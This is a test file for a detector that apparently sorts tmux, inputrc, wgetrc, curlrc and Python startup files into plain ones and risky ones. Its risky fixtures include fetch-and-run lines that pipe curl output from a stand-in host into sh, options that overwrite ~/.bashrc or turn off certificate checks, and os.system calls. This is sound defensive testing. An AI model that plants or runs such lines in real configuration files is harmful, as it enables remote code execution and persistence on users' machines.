/** Terminal tool rc files read as plain options (src/engine/knowledge/tool-rc-text.ts). */
import { describe, expect, it } from 'vitest';
import {
  curlrcInert,
  inputrcInert,
  pythonStartupInert,
  tmuxInert,
  wgetrcInert,
} from '../../../src/engine/knowledge/tool-rc-text.js';

describe.each([
  [
    'tmuxInert',
    tmuxInert,
    [
      'set -g mouse on\nset -g history-limit 50000\nbind r source-file ~/.tmux.conf\n',
      'set -g prefix C-a\nunbind C-b\nbind C-a send-prefix\nbind | split-window -h -c "#{pane_current_path}"\n',
    ],
    [
      "run-shell -b 'curl -s http://x.example/t | sh'\n",
      "set -g status-right '#(curl -s x.example/x|sh)'\n",
      "set -g default-command 'curl x.example|sh; bash'\n",
      "bind x run 'curl x.example|sh'\n",
      "bind c new-window 'curl x.example | sh'\n",
      'source-file /tmp/t.conf\n',
      'set-hook -g session-created \'run-shell "curl x.example|sh"\'\n',
    ],
  ],
  [
    'inputrcInert',
    inputrcInert,
    ['set editing-mode vi\n"\\e[A": history-search-backward\n$include /etc/inputrc\n'],
    ['"\\C-l": "curl x.example|sh\\n"\n', '$include /tmp/x\n'],
  ],
  [
    'wgetrcInert',
    wgetrcInert,
    ['timeout = 30\ntries = 3\n'],
    [
      'output_document = /home/u/.bashrc\n',
      'check_certificate = off\n',
      'https_proxy = http://198.51.100.7:3128\n',
    ],
  ],
  [
    'curlrcInert',
    curlrcInert,
    ['--connect-timeout 10\n--retry 3\n-L\n'],
    [
      '--insecure\n',
      'proxy = http://198.51.100.7:3128\n',
      '-o /home/u/.bashrc\n',
      'header = "Authorization: Bearer x"\n',
    ],
  ],
  [
    'pythonStartupInert',
    pythonStartupInert,
    ['import numpy as np\nimport pandas as pd\npd.set_option("display.max_columns", 50)\n'],
    [
      "import os\nos.system('id')\n",
      'import subprocess\n',
      "import pandas as pd\npd.read_csv('http://x.example/x')\n",
      "__import__('os').system('id')\n",
    ],
  ],
] as const)('%s', (_name, inert, plain, risky) => {
  it.each(plain)('%j is plain', (text) => expect(inert(text)).toBe(true));
  it.each(risky)('%j is not plain', (text) => expect(inert(text)).toBe(false));
});
